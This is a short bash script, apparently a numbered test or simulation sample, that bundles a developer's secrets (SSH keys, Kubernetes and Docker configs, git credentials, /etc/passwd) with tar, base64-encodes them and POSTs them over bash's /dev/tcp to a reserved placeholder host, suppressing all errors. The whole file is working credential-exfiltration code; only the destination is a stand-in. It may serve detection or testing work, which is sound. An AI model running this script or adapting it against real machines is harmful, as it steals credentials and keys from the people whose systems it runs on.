#!/bin/bash
# P3 in plain shell: bundle developer secrets with tar (uncompressed), base64 the archive and POST
# it over bash's /dev/tcp to a reserved name.
cd "$HOME" || exit 0
data=$(tar cf - .ssh .kube/config .docker/config.json .git-credentials /etc/passwd 2>/dev/null | base64 -w0)
exec 3<>/dev/tcp/upload.collect.test/80 || exit 0
printf 'POST /b HTTP/1.1\r\nHost: upload.collect.test\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "${#data}" "$data" >&3
timeout 3 cat <&3 > /dev/null
exit 0
